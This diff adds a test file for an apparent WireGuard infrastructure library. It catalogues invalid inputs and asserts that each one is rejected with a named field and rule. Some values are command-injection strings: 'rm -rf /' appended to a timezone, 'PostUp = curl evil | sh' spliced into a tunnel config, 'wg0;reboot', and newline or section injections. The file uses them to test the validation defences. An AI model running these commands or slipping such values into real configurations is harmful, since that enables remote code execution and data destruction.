@@ -1,0 +1,157 @@
+import { strict as assert } from "assert";
+import { generateKeyPair, peerConf, renderWgQuick, WgKitError } from "@wgkit/core";
+import { ClientTunnel, Peer, SiteLink, WireGuardServer } from "@wgkit/pulumi";
+import { RecordingMocks, useMocks } from "../support/mocks";
+
+/**
+ * The bad-input catalogue: every case must fail before any resource is registered, with a
+ * WgKitError naming the field and the rule.
+ */
+const K = generateKeyPair(), S = generateKeyPair();
+const conf = renderWgQuick(peerConf({ privateKey: K.privateKey, address: "10.64.0.2", serverPublicKey: S.publicKey, endpoint: "198.51.100.10:51820" }));
+const HOSTILE = ["x\ny", "x\rPostUp = id", "x\u0000", "x [Peer]", "PostUp = touch /pwned"];
+
+type Ctor = "server" | "peer" | "tunnel" | "link";
+type Case = { c: Ctor; args: Record<string, unknown>; field: string; rule: string | RegExp; what: string };
+const base: Record<Ctor, Record<string, unknown>> = {
+  server: { serverUrl: "vpn.example.com" },
+  peer: { serverPublicKey: S.publicKey, endpoint: "vpn.example.com:51820", address: "10.13.13.2" },
+  tunnel: { config: conf },
+  link: { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } },
+};
+const srv = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "server", args: { ...base.server, ...args }, field, rule, what });
+const peer = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "peer", args: { ...base.peer, ...args }, field, rule, what });
+const tun = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "tunnel", args: { ...base.tunnel, ...args }, field, rule, what });
+const site = (a: object, b: object, extra: object, field: string, rule: string | RegExp, what: string): Case => ({
+  c: "link", args: { siteA: { ...(base.link.siteA as object), ...a }, siteB: { ...(base.link.siteB as object), ...b }, ...extra }, field, rule, what,
+});
+
+export const CATALOGUE: Case[] = [
+  // WireGuardServer
+  srv({ serverUrl: undefined }, "serverUrl", "required", "missing serverUrl"),
+  srv({ serverUrl: "auto" }, "serverUrl", "no-auto", "SERVERURL=auto"),
+  srv({ serverUrl: "-bad.example.com" }, "serverUrl", "host", "label starts with a dash"),
+  srv({ serverUrl: "a".repeat(64) + ".com" }, "serverUrl", "host", "label over 63 characters"),
+  srv({ serverPort: 0 }, "serverPort", "port-range", "port 0"),
+  srv({ serverPort: 65536 }, "serverPort", "port-range", "port 65536"),
+  srv({ serverPort: 51820.5 }, "serverPort", "port-range", "fractional port"),
+  srv({ subnet: "10.13.13.0/33" }, "subnet", "cidr", "prefix 33"),
+  srv({ subnet: "10.13.13" }, "subnet", "cidr", "three-part address"),
+  srv({ subnet: "10.13.13.7/24" }, "subnet", "network-address", "host bits set"),
+  srv({ subnet: "10.13.13.0/31" }, "subnet", "prefix-too-long", "no room for server and peer"),
+  srv({ subnet: "fd42::/64" }, "subnet", "family", "IPv6 as subnet"),
+  srv({ subnet6: "10.0.0.0/24" }, "subnet6", "family", "IPv4 as subnet6"),
+  srv({ subnet6: "fd42::/127" }, "subnet6", "prefix-too-long", "IPv6 /127"),
+  srv({ dns: ["auto", "1.1.1.1"] }, "dns", "dns-auto", "auto mixed with resolvers"),
+  srv({ dns: ["not a host"] }, "dns[0]", "dns", "DNS entry with spaces"),
+  srv({ allowedIps: ["0.0.0.0/0", "10.0.0.0/40"] }, "allowedIps[1]", "cidr", "bad AllowedIPs CIDR"),
+  srv({ mtu: 100 }, "mtu", "mtu-range", "MTU below 1280"),
+  srv({ persistentKeepalive: 70000 }, "persistentKeepalive", "keepalive-range", "keepalive over 65535"),
+  srv({ puid: -1 }, "puid", "id-range", "negative PUID"),
+  srv({ tz: "Europe/Berlin; rm -rf /" }, "tz", "tz", "TZ with shell"),
+  srv({ image: "Bad Image:latest" }, "image", "image-ref", "image with space and capitals"),
+  srv({ configPath: "relative/path" }, "configPath", "path", "relative config path"),
+  srv({ configPath: "/srv/../etc" }, "configPath", "path", "config path with .."),
+  srv({ dockerHost: "ssh://host\nEVIL=1" }, "dockerHost", "docker-host", "newline in DOCKER_HOST"),
+  srv({ networks: ["lan; id"] }, "networks[0]", "network-name", "bad network name"),
+  srv({ peers: { "bad name": {} } }, "peers.bad name", "name", "peer name with a space"),
+  srv({ peers: { ["p".repeat(64)]: {} } }, `peers.${"p".repeat(64)}`, "name", "peer name over 63 chars"),
+  srv({ peers: { a: { address: "10.9.9.9" } } }, "peers.a.address", "outside-subnet", "pin outside the subnet"),
+  srv({ peers: { a: { address: "10.13.13.1" } } }, "peers.a.address", "server-address", "pin on the server"),
+  srv({ peers: { a: { address: "10.13.13.0" } } }, "peers.a.address", "network-address", "pin on the network address"),
+  srv({ peers: { a: { address: "10.13.13.255" } } }, "peers.a.address", "broadcast-address", "pin on broadcast"),
+  srv({ peers: { a: { address: "10.13.13.5" }, b: { address: "10.13.13.5" } } }, "peers.b.address", "duplicate-address", "duplicate pins"),
+  srv({ subnet: "10.13.13.0/30", peers: { a: {}, b: {} } }, "peers", "subnet-exhausted", "subnet exhausted"),
+  srv({ peers: { a: { address6: "fd42::5" } } }, "peers.a.address6", "no-subnet6", "address6 without subnet6"),
+  srv({ peers: { a: { publicKey: "not-a-key" } } }, "peers.a.publicKey", "key-format", "publicKey not base64"),
+  srv({ peers: { a: { publicKey: Buffer.alloc(31).toString("base64") } } }, "peers.a.publicKey", "key-format", "31-byte key"),
+  srv({ peers: { a: { publicKey: K.publicKey }, b: { publicKey: K.publicKey } } }, "peers.b.publicKey", "duplicate-key", "two peers with one key"),
+  srv({ peers: { a: { serverAllowedIps: ["10.13.0.0/16"] } } }, "peers.a.serverAllowedIps[0]", "overlap", "peer LAN overlaps the tunnel"),
+  srv({ peers: { a: { serverAllowedIps: ["192.168.1.0/24"] }, b: { serverAllowedIps: ["192.168.0.0/16"] } } }, "peers.b.serverAllowedIps[0]", "overlap", "two peers route one LAN"),
+  srv({ peers: { a: { persistentKeepalive: -1 } } }, "peers.a.persistentKeepalive", "keepalive-range", "negative keepalive"),
+  srv({ peers: { a: { enabled: "yes" } } }, "peers.a.enabled", "type", "enabled not boolean"),
+  // Peer
+  peer({ serverPublicKey: undefined }, "serverPublicKey", "required", "missing server key"),
+  peer({ serverPublicKey: "abc=" }, "serverPublicKey", "key-format", "short server key"),
+  peer({ endpoint: "vpn.example.com" }, "endpoint", "endpoint", "endpoint without port"),
+  peer({ endpoint: "vpn.example.com:0" }, "endpoint", "port-range", "endpoint port 0"),
+  peer({ endpoint: "[vpn.example.com]:51820" }, "endpoint", "endpoint", "host name in brackets"),
+  peer({ endpoint: "2001:db8::1:51820" }, "endpoint", "endpoint", "IPv6 endpoint without brackets"),
+  peer({ address: "10.13.13.2/32" }, "address", "ip-address", "address with prefix"),
+  peer({ address: "fd42::2" }, "address", "family", "IPv6 as address"),
+  peer({ address6: "10.13.13.2" }, "address6", "family", "IPv4 as address6"),
+  peer({ listenPort: 70000 }, "listenPort", "port-range", "listen port too high"),
+  peer({ interfaceName: "wg0-interface-too-long" }, "interfaceName", "interface-name", "interface name over 15 chars"),
+  peer({ interfaceName: "wg 0" }, "interfaceName", "interface-name", "interface name with space"),
+  // ClientTunnel
+  tun({ config: "" }, "config", "required", "empty conf"),
+  tun({ config: conf + "[Interface]\nPrivateKey = " + K.privateKey + "\n" }, `config:line ${conf.split("\n").length}`, "duplicate-interface", "two [Interface] sections"),
+  tun({ config: conf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }, "config", "hooks-not-allowed", "provider conf with PostUp"),
+  tun({ config: conf.replace(/^PrivateKey.*$/m, "") }, "config", "private-key", "conf without PrivateKey"),
+  tun({ config: conf.replace(/^AllowedIPs.*$/m, "AllowedIPs = 0.0.0.0/0\nFoo = bar") }, "config:line 9", "unknown-key", "unknown key in [Peer]"),
+  tun({ config: "[Interface]\nSaveConfig = true\nPrivateKey = " + K.privateKey + "\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + S.publicKey + "\n" }, "config", "save-config", "SaveConfig = true"),
+  tun({ table: "main" }, "table", "table", "unknown table name"),
+  tun({ table: "off" }, "table", "split-table", "table off for split tunnel"),
+  tun({ table: "4294967296" }, "table", "table", "table number over 2^32-1"),
+  tun({ routeDestinations: ["10.0.0.0/8"] }, "routeDestinations", "needs-table", "routes without a table"),
+  tun({ table: "55111", routeSources: ["10.0.0.0/33"] }, "routeSources[0]", "cidr", "bad source CIDR"),
+  tun({ killSwitchAllow: ["lan"] }, "killSwitchAllow[0]", "cidr", "kill switch allow not a CIDR"),
+  tun({ publishPorts: [{ internal: 0 }] }, "publishPorts[0].internal", "port-range", "published port 0"),
+  tun({ publishPorts: [{ internal: 80, protocol: "sctp" }] }, "publishPorts[0].protocol", "enum", "unknown protocol"),
+  tun({ interfaceName: "wg0;reboot" }, "interfaceName", "interface-name", "interface name with ;"),
+  // SiteLink
+  site({ lans: ["192.168.1.0/24"] }, { lans: ["192.168.1.128/25"] }, {}, "siteB.lans[0]", "overlap", "overlapping LANs"),
+  site({}, { lans: ["10.255.13.0/30"] }, {}, "siteB.lans[0]", "overlap", "LAN overlaps the tunnel subnet"),
+  site({ endpoint: undefined }, {}, {}, "siteA.endpoint", "no-endpoint", "nobody can dial"),
+  site({ lans: [] }, {}, {}, "siteA.lans", "required", "site without LANs"),
+  site({ name: "a b" }, {}, {}, "siteA.name", "name", "site name with space"),
+  site({}, { name: "a" }, {}, "siteB.name", "duplicate-name", "both sites named alike"),
+  site({}, {}, { mode: "bridged" }, "mode", "enum", "unknown mode"),
+  site({}, {}, { tunnelSubnet: "10.255.13.0/31" }, "tunnelSubnet", "prefix-too-long", "tunnel /31"),
+  site({ endpoint: "a.example.com" }, {}, {}, "siteA.endpoint", "endpoint", "site endpoint without port"),
+  site({ publishPort: 99999 }, {}, {}, "siteA.publishPort", "port-range", "site port too high"),
+];
+
+// rotation only feeds RandomBytes keepers (never a conf), but control characters are refused there too
+for (const h of HOSTILE.slice(0, 3)) CATALOGUE.push(srv({ rotation: h }, "rotation", "single-line", `rotation ${JSON.stringify(h)}`));
+
+// Hostile strings in every plain string field: no line, NUL or section may get through.
+for (const h of HOSTILE) {
+  CATALOGUE.push(
+    srv({ serverUrl: h }, "serverUrl", "host", `serverUrl ${JSON.stringify(h)}`),
+    srv({ peers: { a: { dns: [h] } } }, "peers.a.dns[0]", "dns", `peer dns ${JSON.stringify(h)}`),
+    srv({ peers: { a: { serverAllowedIps: [h] } } }, "peers.a.serverAllowedIps[0]", "cidr", `serverAllowedIps ${JSON.stringify(h)}`),
+    peer({ endpoint: h }, "endpoint", "endpoint", `endpoint ${JSON.stringify(h)}`),
+    peer({ allowedIps: [h] }, "allowedIps[0]", "cidr", `allowedIps ${JSON.stringify(h)}`),
+    tun({ dns: [h] }, "dns[0]", "dns", `tunnel dns ${JSON.stringify(h)}`),
+    site({ endpoint: h }, {}, {}, "siteA.endpoint", /endpoint|host/, `site endpoint ${JSON.stringify(h)}`),
+  );
+}
+
+const construct = (c: Case) => {
+  switch (c.c) {
+    case "server": return new WireGuardServer("t", c.args as never);
+    case "peer": return new Peer("t", c.args as never);
+    case "tunnel": return new ClientTunnel("t", c.args as never);
+    case "link": return new SiteLink("t", c.args as never);
+  }
+};
+
+describe("Bad-input catalogue", () => {
+  after(() => console.log(`      bad-input catalogue: ${CATALOGUE.length} cases across 4 components`));
+  it(`has at least 60 cases (${CATALOGUE.length})`, () => assert.ok(CATALOGUE.length >= 60));
+  for (const c of CATALOGUE) {
+    it(`${c.c}: ${c.what} → ${c.field} [${c.rule}]`, () => {
+      const m = useMocks(new RecordingMocks());
+      assert.throws(() => construct(c), (e: unknown) => {
+        assert.ok(e instanceof WgKitError, `not a WgKitError: ${e}`);
+        assert.equal(e.field, c.field, e.message);
+        if (typeof c.rule === "string") assert.equal(e.rule, c.rule, e.message);
+        else assert.match(e.rule, c.rule, e.message);
+        assert.ok(e.message.startsWith(`${c.field}: `), "the message names the field");
+        return true;
+      });
+      assert.equal(m.registrations.length, 0, "nothing was registered");
+    });
+  }
+});
